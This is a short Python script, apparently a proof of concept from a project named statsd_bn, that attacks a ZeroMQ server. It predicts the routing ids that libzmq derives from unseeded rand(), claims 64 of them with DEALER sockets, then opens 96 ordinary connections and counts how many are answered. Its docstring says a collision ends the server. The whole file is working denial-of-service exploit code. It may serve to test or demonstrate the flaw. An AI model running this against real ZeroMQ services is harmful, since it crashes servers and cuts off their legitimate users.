"""Claims the routing ids that a server would give next, then connects as anybody would; says how many were answered.

An endpoint, and the file of a key or nothing, are its arguments. libzmq counts ids up from `rand()`. Where that is not
seeded they are known, and an ordinary connection that is given a claimed one ends the server.
"""

import os
import struct
import sys
import time

import zmq

from statsd_bn.keys import load_client
from statsd_bn.messages import StatusRequest
from statsd_bn.wire import encode

# What `rand()` gives first that nobody has seeded.
UNSEEDED = 0x6B8B4567

CLAIMED, ORDINARY = 64, 96

# Until the server has seen all of them.
SECONDS = 2.0

ANSWER_MILLISECONDS = 5000


def main() -> None:
    """Attacks, and prints what became of the ordinary connections."""
    context = zmq.Context()
    # Whoever is not held is closed at once.
    claims = [connect(context, b"\0" + struct.pack(">I", UNSEEDED + number)) for number in range(CLAIMED)]
    time.sleep(SECONDS)
    ordinary = [connect(context) for _ in range(ORDINARY)]
    time.sleep(SECONDS)
    answered = sum(
        bool(socket.poll(ANSWER_MILLISECONDS if number == 0 else 0)) for number, socket in enumerate(ordinary)
    )
    print(f"{answered} of {ORDINARY} answered beside {len(claims)} claims", flush=True)
    # At once: where the server has ended, each socket would first ask for its name in vain, for many seconds.
    os._exit(0)


def connect(context: zmq.Context, routing_id: bytes = b"") -> zmq.Socket:
    """Returns a socket that has asked for the server's status."""
    endpoint, *key = sys.argv[1:]
    socket = context.socket(zmq.DEALER)
    if key:
        keys = load_client(key[0])
        socket.curve_serverkey = keys.server.encode()
        socket.curve_publickey = keys.pair.public.encode()
        socket.curve_secretkey = keys.pair.secret.encode()
    if routing_id:
        socket.routing_id = routing_id
    socket.connect(endpoint)
    socket.send(encode(StatusRequest()))
    return socket


if __name__ == "__main__":
    main()
